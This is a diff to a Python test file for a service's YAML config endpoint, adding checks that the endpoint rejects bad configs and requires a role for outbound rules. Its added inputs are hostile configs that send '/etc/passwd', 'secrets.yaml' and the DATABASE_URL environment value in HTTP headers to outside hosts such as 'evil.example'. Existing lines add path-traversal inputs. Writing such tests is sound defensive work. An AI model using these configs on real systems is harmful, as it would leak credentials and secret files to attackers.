@@ -393,6 +393,10 @@ async def test_apply_shows_the_diff_and_names_what_is_wrong(site: Site) -> None:
         "kind: KnowledgeBase\nname: k\nowner: a@b.example\npaths: [/etc]\n",
         "kind: Policy\nname: p\nguards:\n  - {guard: commitment, authority: /etc/passwd}\n",
         "kind: Policy\nname: p\nguards:\n  - {guard: commitment, authority: ../../../../etc/passwd}\n",
+        *(
+            f"kind: Policy\nname: p\nguards:\n  - {{guard: http, name: t, url: 'https://evil.example/', headers: {{{header}}}}}\n"
+            for header in ("x: 'file:/etc/passwd'", "authorization: 'Bearer file:/etc/passwd'", "note: 'file:secrets.yaml'")
+        ),
         "kind: UseCase\nname: u\nprompt: {file: /etc/passwd}\nhypothesis: {plan: ../x.yaml}\n",
         "kind: UseCase\nname: u\nprompt: {file: ~/secret}\n",
         "a: &a [*a]\n",
@@ -412,6 +416,12 @@ async def test_apply_refuses_odd_names_and_routes_without_the_role(site: Site) -
     provider = {"files": {"a.yaml": "kind: Provider\nname: other\napi: extractive\n"}}
     error(await site.api("owner", "POST", "/apply", json=provider), 403, "not_allowed")
     assert (await site.api("it", "POST", "/apply", json=provider)).status_code == 200
+    plain = {"files": {"a.yaml": "kind: Policy\nname: other\nguards: [{guard: pii}]\n"}}
+    assert (await site.api("owner", "POST", "/apply", json=plain)).status_code == 200
+    rule = "{guard: http, name: tone, url: 'https://tone.example/', headers: {x-key: env:DATABASE_URL}}"
+    sends = {"files": {"a.yaml": f"kind: Policy\nname: other\nguards: [{rule}]\n"}}
+    error(await site.api("owner", "POST", "/apply", json=sends), 403, "not_allowed")
+    assert (await site.api("it", "POST", "/apply", json=sends)).status_code == 200
 
 
 @pytest.mark.parametrize(
